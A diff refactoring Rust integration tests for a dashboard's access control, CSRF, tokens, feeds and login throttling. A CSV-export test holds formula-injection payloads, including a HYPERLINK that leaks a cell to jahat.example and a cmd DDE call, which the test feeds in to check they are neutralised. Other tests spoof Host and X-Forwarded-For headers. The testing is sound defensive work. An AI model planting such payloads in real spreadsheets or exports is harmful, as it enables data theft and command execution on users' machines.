@@ -25,9 +25,13 @@ async fn collector_with_users(dir: &std::path::Path) -> TestCollector {
     c
 }
 
-fn http_addr(c: &TestCollector) -> SocketAddr {
-    c.http
-        .unwrap_or_else(|| panic!("the collector serves no dashboard"))
+/// A temporary folder with a collector and its three users in `<tmp>/collector`; returns the
+/// dashboard's address too.
+async fn dashboard_in_tempdir() -> (tempfile::TempDir, TestCollector, SocketAddr) {
+    let tmp = tempdir();
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = c.dashboard();
+    (tmp, c, addr)
 }
 
 /// 1. Anonymous requests to every route but `/login` and `/healthz` are refused (pages
@@ -37,9 +41,7 @@ fn http_addr(c: &TestCollector) -> SocketAddr {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
 
     for r in ROUTES {
         let reply = http_call(addr, r.method, &concrete(r.path), &[], "").await;
@@ -66,22 +68,13 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
         .iter()
         .filter(|r| r.method == "POST" && r.access != Access::Public && r.path != "/logout")
     {
-        let reply = http_call(
-            addr,
-            "POST",
-            &concrete(r.path),
-            &[
-                ("Cookie", &viewer),
-                ("Content-Type", "application/x-www-form-urlencoded"),
-            ],
-            &form_body(&[
-                ("csrf", &viewer_csrf),
-                ("claim", "x"),
-                ("report", "x"),
-                ("verdict", "salah"),
-            ]),
-        )
-        .await;
+        let fields = [
+            ("csrf", viewer_csrf.as_str()),
+            ("claim", "x"),
+            ("report", "x"),
+            ("verdict", "salah"),
+        ];
+        let reply = post_form(addr, &concrete(r.path), &viewer, &fields).await;
         assert_eq!(reply.status, 403, "viewer on {}: {}", r.path, reply.body);
     }
     assert_eq!(
@@ -138,18 +131,7 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
 
     // API tokens: read with a viewer's token, refused to change, dead once the user is disabled.
     let d = path_str(&c.dir).to_owned();
-    let token = run_ok(
-        &bins.collector,
-        &[
-            "api-token",
-            "create",
-            "--data-dir",
-            &d,
-            "--username",
-            "pemirsa1",
-        ],
-    );
-    let bearer = format!("Bearer {}", token.trim());
+    let bearer = api_bearer(&bins, &c.dir, "pemirsa1", &[]);
     let list = http_call(
         addr,
         "GET",
@@ -162,17 +144,11 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
     assert!(list
         .header("content-type")
         .is_some_and(|t| t.starts_with("text/csv")));
-    let post = http_call(
-        addr,
-        "POST",
-        "/verifikasi",
-        &[
-            ("Authorization", &bearer),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form(false),
-    )
-    .await;
+    let bearer_form = [
+        ("Authorization", bearer.as_str()),
+        ("Content-Type", "application/x-www-form-urlencoded"),
+    ];
+    let post = http_call(addr, "POST", "/verifikasi", &bearer_form, &form(false)).await;
     assert_eq!(post.status, 403);
     run_ok(
         &bins.collector,
@@ -217,9 +193,7 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
 /// router answers each of them.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_openapi_document_lists_every_route() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
     let doc = http_call(
         addr,
@@ -308,38 +282,17 @@ async fn subscribe(
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn armada_shows_a_site_going_offline_and_events_stream_live() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let dir = tmp.path().join("collector");
     init_collector_with(&dir, |t| {
         t.replace("offline_after = \"10m\"", "offline_after = \"3s\"")
     });
     let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     let agent_dir = tmp.path().join("agent");
     c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
-    let handle = agent.handle();
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    let token = run_ok(
-        &bins.collector,
-        &[
-            "api-token",
-            "create",
-            "--data-dir",
-            path_str(&dir),
-            "--username",
-            "pemirsa1",
-        ],
-    );
-    let bearer = format!("Bearer {}", token.trim());
+    let (handle, running) = start_agent(&agent_dir);
+    let bearer = api_bearer(&bins, &dir, "pemirsa1", &[]);
     let state_of = |body: &str| -> Option<String> {
         let v: Value = serde_json::from_str(body).ok()?;
         v["items"]
@@ -391,19 +344,12 @@ async fn armada_shows_a_site_going_offline_and_events_stream_live() {
         latency.as_millis()
     );
 
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
     let (cookie, _) = dashboard_login(addr, "admin1", PASSWORD).await;
     let deadline = Instant::now() + Duration::from_secs(30);
     loop {
-        let page = http_call(addr, "GET", "/armada", &[("Cookie", &cookie)], "").await;
-        let row = page
-            .body
-            .split("data-site=\"lapas-uji\"")
-            .nth(1)
-            .and_then(|r| r.split("</tr>").next())
-            .unwrap_or_default()
-            .to_owned();
+        let page = get_with_cookie(addr, "/armada", &cookie).await;
+        let row = armada_row(&page.body, "lapas-uji");
         if row.contains("class=\"offline\"") {
             break;
         }
@@ -435,55 +381,19 @@ async fn armada_shows_a_site_going_offline_and_events_stream_live() {
 /// JSON Feed 1.1 fields.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_published_item_appears_in_valid_feeds() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let agent_dir = tmp.path().join("agent");
-    c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
     let mut d = draft(7);
     d.title = "Panen sayur & buah <kebun> pembinaan".into();
-    let report = agent.file(d).unwrap_or_else(|e| panic!("{e}"));
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    eventually("the report stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 1)
-    })
-    .await;
-    stop.cancel();
-    let _ = task.await;
+    let report = sync_reports(&c, &tmp.path().join("agent"), vec![d]).await[0].clone();
 
     let (cookie, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
-    let form = [
-        ("Cookie", cookie.as_str()),
-        ("Content-Type", "application/x-www-form-urlencoded"),
-    ];
-    let drafted = http_call(
-        addr,
-        "POST",
-        "/publikasi",
-        &form,
-        &form_body(&[("csrf", &csrf), ("report", &report.id.to_string())]),
-    )
-    .await;
+    let id = report.id.to_string();
+    let publish = [("csrf", csrf.as_str()), ("report", id.as_str())];
+    let drafted = post_form(addr, "/publikasi", &cookie, &publish).await;
     assert_eq!(drafted.status, 303, "{}", drafted.body);
     let feed = http_call(addr, "GET", "/feed/feed.json", &[("Cookie", &cookie)], "").await;
     assert!(!feed.body.contains("Panen sayur"), "a draft was published");
-    let approved = http_call(
-        addr,
-        "POST",
-        "/publikasi/1/setujui",
-        &form,
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let approved = post_form(addr, "/publikasi/1/setujui", &cookie, &[("csrf", &csrf)]).await;
     assert_eq!(approved.status, 303, "{}", approved.body);
 
     let atom = http_call(addr, "GET", "/feed/atom.xml", &[("Cookie", &cookie)], "").await;
@@ -845,9 +755,9 @@ async fn in_a_browser_an_urgent_report_appears_live() {
         pasopati_tests::skipped("browser test", "chromium and chromedriver are not installed (apt-get install chromium chromium-driver; PASOPATI_BROWSER=1 makes this a failure)");
         return;
     }
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let c = collector_with_users(&tmp.path().join("collector")).await;
-    let base = format!("http://{}", http_addr(&c));
+    let base = format!("http://{}", c.dashboard());
     // Sites named as the gazetteer names them, in WIB and WITA, so that the screenshots show
     // names, labels and each site's local time.
     let agent = enroll_named(
@@ -877,33 +787,11 @@ async fn in_a_browser_an_urgent_report_appears_live() {
         .handle()
         .file(notable)
         .unwrap_or_else(|e| panic!("{e}"));
-    let (stop_other, other_task) = run_agent(other);
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    let (media, _) = pasopati_analysis::media::read_media_jsonl(
-        "fixture",
-        &std::fs::read_to_string(
-            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/analysis/media.jsonl"),
-        )
-        .unwrap_or_else(|e| panic!("{e}")),
-    );
-    let newsroom = pasopati_collector::newsroom::Newsroom::new(
-        c.store.clone(),
-        &Default::default(),
-        &Default::default(),
-    );
-    newsroom.import(media).unwrap_or_else(|e| panic!("{e}"));
-    eventually("the first reports stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 5)
-    })
-    .await;
+    let other_running = run_agent(other);
+    let running = run_agent(agent);
+    import_media_fixture(&c);
+    c.wait_for_reports("the first reports stored", 5, Duration::from_secs(30))
+        .await;
 
     let profile = tmp.path().join("chromium-profile");
     let browser = Browser::start(&profile).await;
@@ -999,10 +887,8 @@ async fn in_a_browser_an_urgent_report_appears_live() {
     drop(browser);
     let left = processes_naming(&profile);
     assert!(left.is_empty(), "chromium outlived the test: {left:?}");
-    stop.cancel();
-    let _ = task.await;
-    stop_other.cancel();
-    let _ = other_task.await;
+    running.stop().await;
+    other_running.stop().await;
 }
 
 /// `http_call` with a time limit, for answers that may never end (the event stream).
@@ -1041,9 +927,7 @@ fn shape(reply: &HttpReply) -> (u16, Vec<(String, String)>, String) {
 /// is answered like GET, without a body and never with 500.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let (analyst, _) = dashboard_login(addr, "analis1", PASSWORD).await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
@@ -1148,9 +1032,7 @@ async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
 /// `+`, `-`, `@`) are neutralised as OWASP recommends: a leading single quote, the field quoted.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn csv_export_neutralises_formula_cells() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
     let hostile = [
         "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
@@ -1159,21 +1041,12 @@ async fn csv_export_neutralises_formula_cells() {
         "@SUM(1+1)*cmd|' /C calc'!A0",
     ];
     for claim in hostile {
-        let reply = http_call(
-            addr,
-            "POST",
-            "/verifikasi",
-            &[
-                ("Cookie", &analyst),
-                ("Content-Type", "application/x-www-form-urlencoded"),
-            ],
-            &form_body(&[
-                ("csrf", &csrf),
-                ("claim", claim),
-                ("url", "https://contoh.example/klaim"),
-            ]),
-        )
-        .await;
+        let fields = [
+            ("csrf", csrf.as_str()),
+            ("claim", claim),
+            ("url", "https://contoh.example/klaim"),
+        ];
+        let reply = post_form(addr, "/verifikasi", &analyst, &fields).await;
         assert_eq!(reply.status, 303, "{}", reply.body);
     }
     let csv = http_call(
@@ -1208,7 +1081,7 @@ async fn csv_export_neutralises_formula_cells() {
 /// configured listen address), never from the request's `Host` or `X-Forwarded-Proto`.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn feed_links_ignore_a_hostile_host_header() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let dir = tmp.path().join("collector");
     init_collector_with(&dir, |t| {
         t.replace(
@@ -1217,7 +1090,7 @@ async fn feed_links_ignore_a_hostile_host_header() {
         )
     });
     let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let hostile = [
         ("Cookie", viewer.as_str()),
@@ -1255,7 +1128,7 @@ async fn feed_links_ignore_a_hostile_host_header() {
     // Without `public_url`, links use the configured listen address.
     let dir = tmp.path().join("tanpa-url");
     let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let json = http_call(
         addr,
@@ -1278,33 +1151,13 @@ async fn feed_links_ignore_a_hostile_host_header() {
 /// `a&b#c` keeps its value through the pagination link and the CSV link.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn search_links_percent_encode_their_values() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let agent_dir = tmp.path().join("agent");
-    c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
-    let handle = agent.handle();
-    for i in 0..3 {
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
+    let drafts = (0..3).map(|i| {
         let mut d = draft(i);
         d.body = format!("{} Kode uji a&b#c.", d.body);
-        handle.file(d).unwrap_or_else(|e| panic!("{e}"));
-    }
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    eventually("the reports stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 3)
-    })
-    .await;
-    stop.cancel();
-    let _ = task.await;
+        d
+    });
+    sync_reports(&c, &tmp.path().join("agent"), drafts.collect()).await;
 
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let page = http_call(
@@ -1371,9 +1224,7 @@ async fn login_attempt(
 /// password is verified, so at most five are verified (401) and the rest are refused (429).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn parallel_wrong_logins_are_throttled_before_argon2() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let attempts: Vec<_> = (0..32)
         .map(|_| {
             tokio::spawn(async move {
@@ -1402,7 +1253,7 @@ async fn parallel_wrong_logins_are_throttled_before_argon2() {
 /// other peer the header is ignored (so an attacker cannot dodge the lock by writing it).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn lockout_is_per_user_and_client_address() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let dir = tmp.path().join("di-belakang-proxy");
     init_collector_with(&dir, |t| {
         t.replace(
@@ -1411,7 +1262,7 @@ async fn lockout_is_per_user_and_client_address() {
         )
     });
     let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     let attacker = [("X-Forwarded-For", "203.0.113.7")];
     for _ in 0..5 {
         let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &attacker).await;
@@ -1439,7 +1290,7 @@ async fn lockout_is_per_user_and_client_address() {
 
     // No trusted proxy (the default): the header is ignored and the peer is the client.
     let c = collector_with_users(&tmp.path().join("tanpa-proxy")).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     for i in 0..5 {
         let spoofed = format!("203.0.113.{i}");
         let r = login_attempt(
@@ -1467,9 +1318,7 @@ async fn lockout_is_per_user_and_client_address() {
 /// script or style; and the login form needs its pre-session CSRF token.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_answer_has_security_headers_and_login_needs_its_csrf_token() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
     let check = |reply: &HttpReply, context: &str| {
         let csp = reply
@@ -1633,25 +1482,13 @@ async fn open_stream(addr: SocketAddr, credential: (&str, &str)) -> tokio::task:
 /// and of its user being disabled.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn event_stream_ends_on_logout_and_disable() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
 
     let (admin, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
     let stream = open_stream(addr, ("Cookie", &admin)).await;
     tokio::time::sleep(Duration::from_millis(2500)).await;
     assert!(!stream.is_finished(), "the stream ended on its own");
-    let out = http_call(
-        addr,
-        "POST",
-        "/logout",
-        &[
-            ("Cookie", &admin),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let out = post_form(addr, "/logout", &admin, &[("csrf", &csrf)]).await;
     assert_eq!(out.status, 303, "{}", out.body);
     let started = Instant::now();
     tokio::time::timeout(Duration::from_secs(5), stream)
@@ -1681,22 +1518,9 @@ async fn event_stream_ends_on_logout_and_disable() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
     let d = path_str(&c.dir).to_owned();
-    let create = |extra: &[&str]| {
-        let mut args = vec![
-            "api-token",
-            "create",
-            "--data-dir",
-            &d,
-            "--username",
-            "pemirsa1",
-        ];
-        args.extend_from_slice(extra);
-        format!("Bearer {}", run_ok(&bins.collector, &args).trim())
-    };
+    let create = |extra: &[&str]| api_bearer(&bins, &c.dir, "pemirsa1", extra);
     let kept = create(&[]);
     let revoked = create(&["--expires", "30d"]);
     let short = create(&["--expires", "2s"]);
@@ -1797,11 +1621,11 @@ async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
 async fn sessions_survive_a_restart_and_logout_removes_them() {
     use pasopati_collector::store::StoredSession;
     use pasopati_collector::web::auth::MAX_SESSIONS_PER_USER;
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let dir = tmp.path().join("collector");
     let c = collector_with_users(&dir).await;
-    let (cookie, csrf) = dashboard_login(http_addr(&c), "admin1", PASSWORD).await;
-    let (viewer, _) = dashboard_login(http_addr(&c), "pemirsa1", PASSWORD).await;
+    let (cookie, csrf) = dashboard_login(c.dashboard(), "admin1", PASSWORD).await;
+    let (viewer, _) = dashboard_login(c.dashboard(), "pemirsa1", PASSWORD).await;
     c.stop().await;
 
     let id = cookie.trim_start_matches("pasopati_session=").to_owned();
@@ -1813,24 +1637,14 @@ async fn sessions_survive_a_restart_and_logout_removes_them() {
         "the session id is stored in the clear"
     );
 
-    let c = TestCollector::start(&dir, ([127, 0, 0, 1], 0).into()).await;
-    let addr = http_addr(&c);
+    let c = TestCollector::start(&dir, any_loopback_port()).await;
+    let addr = c.dashboard();
     let home = http_call(addr, "GET", "/", &[("Cookie", &cookie)], "").await;
     assert_eq!(home.status, 200, "the session did not survive the restart");
     assert!(home.body.contains(&csrf), "the CSRF token changed");
     assert_eq!(c.store.session_count("admin1").ok(), Some(1));
 
-    let out = http_call(
-        addr,
-        "POST",
-        "/logout",
-        &[
-            ("Cookie", &cookie),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let out = post_form(addr, "/logout", &cookie, &[("csrf", &csrf)]).await;
     assert_eq!(out.status, 303, "{}", out.body);
     let after = http_call(addr, "GET", "/", &[("Cookie", &cookie)], "").await;
     assert_eq!(after.status, 303, "the cookie still works after logout");
@@ -1898,43 +1712,42 @@ async fn enroll_named(
     name: &str,
     kanwil: &str,
 ) -> pasopati_agent::Agent {
-    use pasopati_collector::control::{CollectorRequest, CollectorResponse};
-    let add = pasopati_collector::admin::SiteAdd {
-        id: pasopati_common::SiteId::new(id).unwrap_or_else(|e| panic!("{e}")),
-        name: name.into(),
-        site_type: pasopati_common::SiteType::Lapas,
-        kanwil: kanwil.into(),
-        ttl: None,
-    };
-    let token = match pasopati_collector::call(&c.dir, CollectorRequest::SiteAdd(add))
-        .await
-        .as_deref()
-    {
-        Ok([CollectorResponse::Token(t)]) => t.clone(),
-        other => panic!("site add {id}: {other:?}"),
-    };
+    let token = c
+        .register(pasopati_collector::admin::SiteAdd {
+            name: name.into(),
+            kanwil: kanwil.into(),
+            ..site(id)
+        })
+        .await;
     pasopati_agent::enroll(dir, &token, false)
         .await
         .unwrap_or_else(|e| panic!("enrolling {id}: {e}"));
-    pasopati_agent::Agent::open(dir).unwrap_or_else(|e| panic!("{e}"))
+    open_agent(dir)
 }
 
-fn run_agent(
-    agent: pasopati_agent::Agent,
-) -> (
-    tokio_util::sync::CancellationToken,
-    tokio::task::JoinHandle<Result<(), pasopati_agent::AgentError>>,
-) {
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    (stop, task)
+/// Enrolls an agent for `lapas-uji` in `dir`, files `drafts` there, runs it until the collector
+/// holds them all, and stops it; returns the filed reports.
+async fn sync_reports(
+    c: &TestCollector,
+    dir: &std::path::Path,
+    drafts: Vec<pasopati_common::ReportDraft>,
+) -> Vec<pasopati_common::Report> {
+    c.enroll_agent(dir, "lapas-uji").await;
+    let agent = open_agent(dir);
+    let filed: Vec<_> = drafts
+        .into_iter()
+        .map(|d| agent.file(d).unwrap_or_else(|e| panic!("{e}")))
+        .collect();
+    let running = run_agent(agent);
+    let what = if filed.len() == 1 {
+        "the report stored"
+    } else {
+        "the reports stored"
+    };
+    c.wait_for_reports(what, filed.len() as u64, Duration::from_secs(30))
+        .await;
+    running.stop().await;
+    filed
 }
 
 /// The `<tr>` of a site on Armada.
@@ -1967,9 +1780,7 @@ fn has_local_time(text: &str, zone: &str) -> bool {
 /// checked by the server, and the revocation is audited with the dashboard user.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
     let id = "rutan-makassar";
     let agent = enroll_named(
         &c,
@@ -1981,7 +1792,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
     .await;
     let handle = agent.handle();
     handle.file(draft(1)).unwrap_or_else(|e| panic!("{e}"));
-    let (stop, task) = run_agent(agent);
+    let running = run_agent(agent);
     let site = pasopati_common::SiteId::new(id).unwrap_or_else(|e| panic!("{e}"));
     eventually(
         "the report stored and a heartbeat",
@@ -2053,8 +1864,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
     assert!(row.contains("Rutan Kelas I Makassar"), "{row}");
 
     // The agent stops: offline at once, not after `offline_after` (10 minutes here).
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
     let stopped = Instant::now();
     loop {
         let page = http_call(addr, "GET", "/armada", &[("Cookie", &cookie)], "").await;
@@ -2079,17 +1889,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
             if let Some(confirm) = confirm {
                 fields.push(("konfirmasi", confirm));
             }
-            http_call(
-                addr,
-                "POST",
-                &format!("/armada/{id}/cabut"),
-                &[
-                    ("Cookie", &cookie),
-                    ("Content-Type", "application/x-www-form-urlencoded"),
-                ],
-                &form_body(&fields),
-            )
-            .await
+            post_form(addr, &format!("/armada/{id}/cabut"), &cookie, &fields).await
         }
     };
     let revoked = || {
@@ -2126,9 +1926,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
 /// sentiment figure is the mean of the stories it lists, and an "offline 0" is not red.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
     let id = "lapas-sorong";
     let agent = enroll_named(
         &c,
@@ -2144,12 +1942,10 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
     urgent.priority = Some(pasopati_common::Priority::Urgent);
     urgent.title = "Kebakaran kecil di dapur (uji zona)".into();
     let filed = handle.file(urgent).unwrap_or_else(|e| panic!("{e}"));
-    let (stop, task) = run_agent(agent);
+    let running = run_agent(agent);
     import_media_fixture(&c);
-    eventually("the report stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 1)
-    })
-    .await;
+    c.wait_for_reports("the report stored", 1, Duration::from_secs(30))
+        .await;
     let (cookie, _) = dashboard_login(addr, "analis1", PASSWORD).await;
     let get = |path: String| {
         let cookie = cookie.clone();
@@ -2274,8 +2070,7 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
         home.contains("UPT offline sekarang<b class=\"\">0</b>"),
         "offline 0 is coloured: {home}"
     );
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
 }
 
 /// Imports the analysis fixture's media items into the collector's store.
